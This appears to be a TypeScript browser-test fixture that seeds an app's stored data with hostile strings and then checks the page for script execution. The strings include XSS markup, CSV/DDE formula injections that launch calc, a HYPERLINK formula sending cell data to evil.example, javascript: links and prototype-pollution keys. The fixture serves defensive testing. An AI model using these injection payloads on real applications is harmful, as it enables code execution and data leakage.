import type { Page } from "./session";
import { put } from "./stored";
import { builder, tell } from "./story";

const markup = "<img src=x onerror=globalThis.executed=1><svg onload=globalThis.executed=1>";
const long = "a".repeat(2000);

/** What names, titles and labels can be where a file was made to do harm. */
export const texts = [
  markup,
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1)',
  "+1",
  "-1\t=1",
  ";=1",
  "\u202eelpmaxe.moc\u2066",
  long,
  "💣".repeat(1000),
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "[click](javascript:globalThis.executed=1)",
  "![](https://evil.example)",
  "https://evil.example www.evil.example",
  "|a|b|\n\n# c\n```",
  "&lt;b&gt;<b>**_`~",
  "\u0000\u0007\r\n",
  "{count} $1 $&",
  "%00%E0%A4%A",
  " ",
];

/** Page keys of such sites, and of such sections: what a file restored or imported can bring. */
const keys = [...texts, ...texts.map((text) => `evil.example/${text}`), ...texts.map((text) => `${text}:`)];

const channels = texts.map((label, i) => ({ id: `my-${i}`, category: "distribution", label }));
const rules = [
  ...channels.map(({ id }, i) => ({ text: `${i}.evil.example`, channel: id, since: null })),
  { text: `long.example/${long.slice(0, 900)}/**`, channel: "my-0", since: "2026-01-01" },
  { text: `${"a.".repeat(120)}example`, channel: "__proto__", since: null },
  { text: "evil.example/%f0%9f%92%a3", channel: "constructor", since: null },
];

/** The first day and the last that can be written. */
const ends = ["0001-01-01", "9999-12-31"];

const MOST = Number.MAX_SAFE_INTEGER;

/** A store in which every text that is free to be anything is one of these, and every number as large as it can be. */
export async function tellHostile(page: Page): Promise<void> {
  const { circumstances } = builder.balanced;
  const hostile = Object.fromEntries([...keys, ...rules.map(({ text }) => text)].map((key) => [key, 3]));
  await tell(page, [...builder.balanced.story.slice(0, -2), hostile, hostile], {
    ...circumstances,
    facts: [
      ...["customers", "visitors", "users", "revenue"].flatMap((kind) => [
        { kind, value: MOST, daysAgo: 9 },
        { kind, value: 0, daysAgo: 8 },
        { kind, value: MOST, daysAgo: 0 },
      ]),
      { kind: "shown", value: "pipeline", daysAgo: 0 },
    ] as NonNullable<typeof circumstances.facts>,
    settings: {
      ...circumstances.settings,
      pause: { from: 0, until: 8e15 },
      projects: texts.map((text, i) => ({
        id: text,
        name: text,
        domains: [`${i}.example`],
        repositories: [`github.com/acme/${text}`],
        isParked: false,
      })),
    },
  });
  const { at, day } = await page.evaluate(() => {
    const now = new Date();
    const day = new Date(now.getTime() - now.getTimezoneOffset() * 60_000).toISOString().slice(0, 10);
    return { at: now.setHours(0, 0, 0, 0), day };
  });
  const block = { minutes: 30, moved: 1e6, from: at, day, until: at + 1000, outcome: null };
  await put(page, {
    channels,
    rules,
    blocks: texts.flatMap((text, i) => [
      { ...block, id: 100 + i, move: text, title: text, channel: text, project: text, plan: { when: text, at, day } },
    ]),
    facts: [
      ...texts.map((text, i) => ({ id: 100 + i, at, day, project: text, kind: "users", value: MOST - i })),
      ...ends.map((end, i) => ({ id: 200 + i, at: at + i, day: end, project: null, kind: "users", value: i })),
    ],
    days: ["1970-01-01", "9999-12-31"].map((end) => ({
      day: end,
      source: "recorded",
      pages: [{ key: "evil.example", hours: { 0: 1e6 } }],
    })),
    dismissals: texts.map((text, i) => ({ id: 100 + i, sign: i > 3 ? text : "comfort", at, day, reason: text })),
    imports: texts.map((text, i) => ({
      ...{ id: i, tool: text, filename: text, at, first: "0001-01-01", last: "9999-12-31", days: 1e6, ms: MOST },
    })),
    stretches: [{ day, longestBuildMs: 86_400_000 }],
  });
}

/** Has a page remember what goes wrong in it from now on: exceptions, and what is told to nobody but the console. */
export function watchFaults(page: Page): Promise<void> {
  return page.evaluate(() => {
    const faults: string[] = [];
    Object.assign(globalThis, { faults });
    addEventListener("error", ({ message, error }) => faults.push(`${message} ${error?.stack}`));
    addEventListener("unhandledrejection", ({ reason }) => faults.push(`${reason} ${reason?.stack}`));
    addEventListener("securitypolicyviolation", (violation) => {
      const { violatedDirective, sample } = violation as SecurityPolicyViolationEvent;
      faults.push(`${violatedDirective} ${sample}`);
    });
    console.error = (...told: unknown[]) =>
      faults.push(told.map((one) => `${one} ${Object(one).stack ?? ""}`).join(" "));
  });
}

/** What has gone wrong in a page since it was watched, and what of a text became more than text. */
export function readFaults(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const { faults, executed } = globalThis as unknown as { faults?: string[]; executed?: unknown };
    const planted = [...document.querySelectorAll("[onerror], [onload], iframe, [href^='javascript:' i], [src='x']")];
    return [
      ...(faults ?? ["it was not watched"]),
      ...planted.map(({ outerHTML }) => `planted: ${outerHTML.slice(0, 100)}`),
      ...(executed === undefined ? [] : ["it was executed"]),
    ];
  });
}
